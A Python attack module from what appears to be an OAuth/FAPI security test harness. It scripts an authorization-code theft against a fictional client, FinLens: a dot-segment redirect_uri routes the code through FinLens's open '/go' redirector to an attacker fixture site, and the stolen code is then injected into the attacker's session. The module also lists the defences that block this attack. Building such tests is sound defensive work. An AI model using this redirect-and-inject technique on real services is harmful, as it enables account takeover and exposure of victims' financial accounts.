"""open-redirector-leak: FinLens's own /go forwards the code to the attacker (A1).

attacks.md §3 E. FinLens has a partner-offer redirector, /go?url=…, that (off
tpp_no_open_redirect) goes anywhere and carries along every other parameter. A legacy
AS accepts any redirect_uri whose path starts with the registered one, so
https://<tpp>/callback/../go?url=<attacker>/steal passes as FinLens's callback; browsers
remove the dot segments (RFC 3986 §5.2.4) and land on /go, which appends the code the AS
added and sends the browser to the attacker. BCP §4.11.1: "Clients MUST NOT expose open
redirectors"; BCP §2.1: exact matching.
"""

from __future__ import annotations

from urllib.parse import quote

from attacker import fixtures
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.inject import code_lured_to_site, inject_code
from attacker.outcome import PKCE_ALONE

STEAL_PATH = "/steal"


def run(ctx: AttackContext) -> None:
    fx = fixtures.ensure_running(ctx)
    redirect_uri = ctx.url("tpp", "/callback/../go?url=") + quote(fx.site + STEAL_PATH, safe="")
    got = code_lured_to_site(
        ctx, fx, redirect_uri, STEAL_PATH,
        built="builds an authorization request for FinLens's client_id whose redirect_uri "
              "goes through FinLens's /go redirector to its own site",
        missing="FinLens's /go did not forward the code to the attacker's site",
        read="reads the victim's code, forwarded by FinLens's /go, from its site's log")
    inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
                source="FinLens forwarded to its site", response=got.get("response"))


ATTACK = Attack(
    id="open-redirector-leak", attacker="A1", legs=("own",), victim="live",
    title="Code forwarded by the TPP's open redirector",
    blocked_by=("exact_redirect_uri", "tpp_no_open_redirect", "par_required", "jar_required",
                "pkce_required"),
    premise="Runs the attacker site; knows FinLens's client_id, redirect URI and its /go "
            "partner redirector (public); the victim follows its link and consents.",
    goal="the attacker's FinLens account shows the victim's accounts", run=run,
    refs=("BCP §4.11.1", "BCP §2.1", "FAPI2 §5.3.3.1", "RFC 3986 §5.2.4"),
    also_blocked_by={
        "code_client_binding":
            "the code was issued for the /go redirect_uri and FinLens redeems it with "
            "/callback, which RFC 6749 §4.1.3 requires to be identical",
        "tpp_checks_nonce":
            "as in code-injection: the injected code's ID token carries the victim's nonce, "
            "not the attacker session's",
    },
    not_alone={"pkce_required": PKCE_ALONE},
)
